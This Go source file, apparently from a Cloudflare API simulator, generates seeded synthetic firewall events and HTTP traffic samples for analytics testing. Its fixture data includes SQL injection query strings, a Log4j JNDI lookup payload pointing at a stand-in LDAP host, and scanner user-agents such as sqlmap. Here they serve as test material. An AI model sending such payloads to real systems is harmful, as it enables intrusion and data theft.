package cfsim

import (
	"fmt"
	"math/rand/v2"
	"sort"
	"time"
)

// seedAnalytics schedules the analytics seed: 24 hours ending at the
// simulator clock now, generated on the first analytics query (building it
// costs milliseconds that a server starting with a simulator need not pay).
func seedAnalytics(s *Sim) {
	at := s.Now()
	s.st.analyticsSeed = &at
}

// ensureAnalytics generates the scheduled analytics seed. Caller holds s.mu.
func (s *Sim) ensureAnalytics() {
	if s.st.analyticsSeed == nil {
		return
	}
	at := *s.st.analyticsSeed
	s.st.analyticsSeed = nil
	generateAnalytics(s, at)
}

// generateAnalytics builds 24 hours of firewall events and sampled HTTP
// requests ending at end, from a fixed random seed.
func generateAnalytics(s *Sim, end time.Time) {
	now := end.UTC().Truncate(time.Minute)
	rng := rand.New(rand.NewPCG(20250301, 7))
	type pattern struct {
		weight                        int
		zone, host                    string
		action, source, rulesetID     string
		ruleID, desc                  string
		ips, countries, paths, agents []string
		method, query                 string
		asn                           int
		asnDesc                       string
	}
	cfRule := func(name string) string { return HexID("managed/cf/" + name) }
	patterns := []pattern{
		{60, SeedZoneMainID, "www.example.com", "block", "firewallCustom", SeedMainCustomRulesetID, SeedRuleBadBotID, "Block BadBot",
			[]string{"203.0.113.66", "203.0.113.67", "198.18.4.20"}, []string{"RU", "CN"}, []string{"/", "/api/v1/products", "/sitemap.xml"}, []string{"BadBot/1.0"}, "GET", "", 64500, "EXAMPLE-HOSTING"},
		{35, SeedZoneMainID, "www.example.com", "log", "firewallCustom", SeedMainCustomRulesetID, SeedRuleLogOnlyID, "Block sqlmap (TODO: switch to block)",
			[]string{"185.220.101.4", "185.220.101.9"}, []string{"DE", "NL"}, []string{"/search", "/api/v1/products"}, []string{"sqlmap/1.7.2#stable (https://sqlmap.org)"}, "GET", "?q=1%27%20OR%20%271%27=%271", 64501, "TOR-EXIT"},
		{40, SeedZoneMainID, "www.example.com", "managed_challenge", "firewallCustom", SeedMainCustomRulesetID, SeedRuleThreatScoreID, "Challenge risky visitors",
			[]string{"198.51.100.201", "192.0.2.77", "203.0.113.140"}, []string{"BR", "VN", "IN"}, []string{"/", "/login", "/cart"}, []string{"Mozilla/5.0 (Windows NT 10.0; Win64; x64)"}, "GET", "", 64502, "EXAMPLE-ISP"},
		{30, SeedZoneMainID, "api.example.com", "block", "firewallManaged", ManagedRulesetCloudflareID, cfRule("sqli-union"), "SQLi - UNION in MSSQL",
			[]string{"45.95.147.10", "45.95.147.11"}, []string{"NL"}, []string{"/api/v1/users"}, []string{"python-requests/2.31"}, "GET", "?id=1%20UNION%20SELECT%20password%20FROM%20users", 64503, "BULLETPROOF-VPS"},
		{20, SeedZoneMainID, "www.example.com", "block", "firewallManaged", ManagedRulesetCloudflareID, cfRule("log4j-header"), "Log4j Headers",
			[]string{"45.95.147.12"}, []string{"NL"}, []string{"/"}, []string{"${jndi:ldap://198.18.9.9/a}"}, "GET", "", 64503, "BULLETPROOF-VPS"},
		{25, SeedZoneMainID, "www.example.com", "skip", "firewallCustom", SeedMainCustomRulesetID, SeedRuleSpoofableSkipID, "Skip WAF for our reverse proxy",
			[]string{"203.0.113.200", "198.18.7.7"}, []string{"US", "RU"}, []string{"/admin", "/api/v1/users"}, []string{"curl/8.4.0"}, "POST", "", 64504, "EXAMPLE-CLOUD"},
		{45, SeedZoneMainID, "www.example.com", "block", "ratelimit", SeedMainRatelimitRulesetID, SeedRuleRateLimitID, "Rate limit login",
			[]string{"192.0.2.150", "192.0.2.151", "192.0.2.152", "192.0.2.153"}, []string{"US", "CN"}, []string{"/login"}, []string{"Mozilla/5.0 (X11; Linux x86_64)", "okhttp/4.12.0"}, "POST", "", 64505, "EXAMPLE-MOBILE"},
		{15, SeedZoneMainID, "www.example.com", "block", "firewallCustom", SeedMainCustomRulesetID, SeedRuleInlineIPSetID, "Block /admin outside the office",
			[]string{"203.0.113.140", "198.18.7.7"}, []string{"FR", "RU"}, []string{"/admin", "/admin/users"}, []string{"Mozilla/5.0 (Macintosh; Intel Mac OS X 14_0)"}, "GET", "", 64506, "EXAMPLE-TELECOM"},
		{25, SeedZoneShopID, "example.shop", "managed_challenge", "firewallCustom", SeedShopCustomRulesetID, HexID("rule/example.shop/wp-login"), "Challenge WordPress login",
			[]string{"198.51.100.222", "203.0.113.99"}, []string{"US", "ID"}, []string{"/wp-login.php"}, []string{"Mozilla/5.0 (compatible; WPScan)"}, "POST", "", 64507, "EXAMPLE-HOSTING-2"},
		{10, SeedZoneShopID, "example.shop", "block", "securitylevel", "", "", "Security level",
			[]string{"185.220.101.4"}, []string{"DE"}, []string{"/checkout"}, []string{"sqlmap/1.7.2#stable (https://sqlmap.org)"}, "GET", "", 64501, "TOR-EXIT"},
	}
	total := 0
	for _, p := range patterns {
		total += p.weight
	}
	colos := []string{"FRA", "AMS", "LHR", "IAD", "SIN"}
	pick := func(l []string) string { return l[rng.IntN(len(l))] }
	var events []fwEvent
	for i := 0; i < 305; i++ {
		n := rng.IntN(total)
		var p pattern
		for _, x := range patterns {
			if n < x.weight {
				p = x
				break
			}
			n -= x.weight
		}
		at := now.Add(-time.Duration(rng.IntN(24*3600)) * time.Second)
		status := 403
		switch p.action {
		case "log", "skip":
			status = 200
		case "managed_challenge":
			status = 403
		}
		if p.source == "ratelimit" {
			status = 429
		}
		events = append(events, fwEvent{
			"zoneTag": p.zone, "datetime": at, "action": p.action, "source": p.source,
			"rulesetId": p.rulesetID, "ruleId": p.ruleID, "description": p.desc,
			"clientIP": pick(p.ips), "clientCountryName": pick(p.countries),
			"clientAsn": fmt.Sprint(p.asn), "clientASNDescription": p.asnDesc,
			"clientRequestHTTPHost": p.host, "clientRequestPath": pick(p.paths), "clientRequestQuery": p.query,
			"clientRequestHTTPMethodName": p.method, "clientRequestHTTPProtocol": "HTTP/2", "clientRequestScheme": "https",
			"userAgent": pick(p.agents), "edgeColoName": pick(colos), "edgeResponseStatus": status,
			"originResponseStatus": map[bool]int{true: 200, false: 0}[status == 200], "kind": "firewall",
			"matchIndex": 0, "rayName": HexID(fmt.Sprint("ray/", i))[:16],
		})
	}
	sort.SliceStable(events, func(i, j int) bool {
		return events[i]["datetime"].(time.Time).Before(events[j]["datetime"].(time.Time))
	})
	s.st.fwEvents = events

	type traffic struct {
		zone, host, path, method, cache string
		status, bytes, perHour          int
		query                           string
		countries                       []string
		action, source                  string
	}
	flows := []traffic{
		{SeedZoneMainID, "www.example.com", "/", "GET", "hit", 200, 48000, 900, "", []string{"US", "DE", "GB", "FR"}, "", ""},
		{SeedZoneMainID, "www.example.com", "/static/app.js", "GET", "hit", 200, 210000, 700, "", []string{"US", "DE", "GB"}, "", ""},
		{SeedZoneMainID, "api.example.com", "/api/v1/products", "GET", "dynamic", 200, 12000, 500, "?page=2&sort=price_asc", []string{"US", "DE"}, "", ""},
		{SeedZoneMainID, "www.example.com", "/login", "POST", "dynamic", 200, 3000, 120, "", []string{"US", "CN"}, "", ""},
		{SeedZoneMainID, "www.example.com", "/login", "POST", "none", 429, 600, 25, "", []string{"US", "CN"}, "block", "ratelimit"},
		{SeedZoneMainID, "www.example.com", "/", "GET", "none", 403, 4000, 8, "?id=1%27%20UNION%20SELECT%20password%20FROM%20users--", []string{"RU", "CN"}, "block", "firewallCustom"},
		{SeedZoneMainID, "www.example.com", "/missing", "GET", "miss", 404, 2000, 40, "?utm_source=newsletter&utm_medium=email", []string{"US"}, "", ""},
		{SeedZoneMainID, "api.example.com", "/api/v1/orders", "POST", "dynamic", 502, 1500, 6, "", []string{"US"}, "", ""},
		{SeedZoneShopID, "example.shop", "/", "GET", "hit", 200, 52000, 300, "", []string{"US", "CA"}, "", ""},
		{SeedZoneShopID, "example.shop", "/checkout", "POST", "dynamic", 200, 9000, 60, "", []string{"US", "CA"}, "", ""},
		{SeedZoneShopID, "example.shop", "/wp-login.php", "POST", "none", 403, 3000, 12, "", []string{"US", "ID"}, "managed_challenge", "firewallCustom"},
	}
	var samples []httpSample
	for h := 23; h >= 0; h-- {
		hour := now.Truncate(time.Hour).Add(-time.Duration(h) * time.Hour)
		for _, f := range flows {
			for _, c := range f.countries {
				n := f.perHour/len(f.countries) + rng.IntN(f.perHour/len(f.countries)/4+1)
				samples = append(samples, httpSample{
					"zoneTag": f.zone, "datetime": hour.Add(time.Duration(rng.IntN(60)) * time.Minute),
					"clientRequestHTTPHost": f.host, "clientRequestPath": f.path, "clientRequestQuery": f.query, "clientRequestHTTPMethodName": f.method,
					"clientRequestScheme": "https", "cacheStatus": f.cache, "edgeResponseStatus": f.status,
					"clientCountryName": c, "clientIP": "192.0.2." + fmt.Sprint(1+rng.IntN(200)), "clientAsn": "64510",
					"userAgent": "Mozilla/5.0", "requestSource": "eyeball",
					"securityAction": map[bool]string{true: f.action, false: "unknown"}[f.action != ""],
					"securitySource": map[bool]string{true: f.source, false: "unknown"}[f.source != ""],
					"_weight":        n, "edgeResponseBytes": n * f.bytes, "visits": n / 3, "edgeTimeToFirstByteMs": n * (40 + rng.IntN(80)),
				})
			}
		}
	}
	s.st.httpGroups = samples
}
